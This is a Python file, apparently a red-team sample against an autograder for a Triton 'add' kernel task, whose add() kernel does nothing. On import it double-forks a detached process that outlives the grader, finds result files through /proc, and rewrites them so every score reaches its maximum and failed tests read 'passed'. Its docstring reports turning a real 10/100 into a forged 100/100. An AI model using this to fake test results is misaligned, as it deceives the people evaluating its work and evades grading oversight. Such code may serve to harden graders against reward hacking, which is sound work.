"""Detached writer: at import, double-fork a setsid'd process that outlives the grading. It
reads the output paths from the command lines of this process's ancestors (--json PATH,
--json=PATH, --format FORMAT PATH, relative to that ancestor's /proc/<pid>/cwd), waits until
that ancestor has exited (the results are written by then), and rewrites every JSON output with
a full score: each "score" set to its "max_score" (a top-level score without one, Gradescope's,
to the sum of its tests' max_score), each status "passed". It gives up after 240 s and only
ever writes under /tmp. add() launches a kernel that does nothing.

Forged 100/100 on the grader of commit de3289e (the JSON and Gradescope files, a moment after
the grader had exited 1 and printed 10/100).
"""

ATTACK = "detached writer"
LAYER = "processes"

import json
import os
import time

import torch
import triton
import triton.language as tl


def _safe(path: str) -> bool:
    real = os.path.realpath(path)
    return real.startswith("/tmp/") and "/.venv" not in real


def _parent_of(pid: int) -> int:
    try:
        with open(f"/proc/{pid}/stat") as f:
            return int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def _outputs() -> tuple[int, list[str]]:
    """The nearest ancestor asked to write results, and those paths."""
    pid = os.getpid()
    for _ in range(6):
        pid = _parent_of(pid)
        if pid <= 1:
            break
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = [a.decode(errors="replace") for a in f.read().split(b"\0")]
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        paths = []
        for i, arg in enumerate(args):
            if arg == "--json" and i + 1 < len(args):
                paths.append(args[i + 1])
            elif arg.startswith("--json="):
                paths.append(arg.split("=", 1)[1])
            elif arg == "--format" and i + 2 < len(args):
                paths.append(args[i + 2])
        if paths:
            return pid, [os.path.join(cwd, p) for p in paths]
    return 0, []


def _full_marks(value):
    if isinstance(value, list):
        return [_full_marks(v) for v in value]
    if not isinstance(value, dict):
        return value
    value = {k: _full_marks(v) for k, v in value.items()}
    if "max_score" in value and "score" in value:
        value["score"] = value["max_score"]
    elif "score" in value and isinstance(value.get("tests"), list):
        value["score"] = sum(t.get("max_score", 0) for t in value["tests"])
    if value.get("status") in ("failed", "not_started", "error", "crashed", "timeout", "fail"):
        value["status"] = "passed" if value["status"] != "fail" else "pass"
    if "message" in value and isinstance(value["message"], str):
        value["message"] = ""
    return value


def _writer(grader: int, paths: list[str]) -> None:
    deadline = time.monotonic() + 240
    while time.monotonic() < deadline and os.path.exists(f"/proc/{grader}"):
        time.sleep(0.1)
    time.sleep(0.2)
    for path in paths:
        try:
            if not _safe(path):
                continue
            with open(path) as f:
                forged = _full_marks(json.load(f))
            with open(path, "w") as f:
                json.dump(forged, f)
        except (OSError, ValueError):
            pass


def _detach() -> None:
    grader, paths = _outputs()
    if not paths or os.fork():
        return
    try:
        os.setsid()
        if os.fork() == 0:
            for fd in range(3):
                os.close(fd)
            _writer(grader, paths)
    finally:
        os._exit(0)


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n_elements, BLOCK_SIZE: tl.constexpr):
    pid = tl.program_id(axis=0)


def add(x: torch.Tensor, y: torch.Tensor, out: torch.Tensor | None = None) -> torch.Tensor:
    if out is None:
        out = torch.empty_like(x)
    add_kernel[(1,)](x, y, out, x.numel(), BLOCK_SIZE=1024)
    return out


_detach()
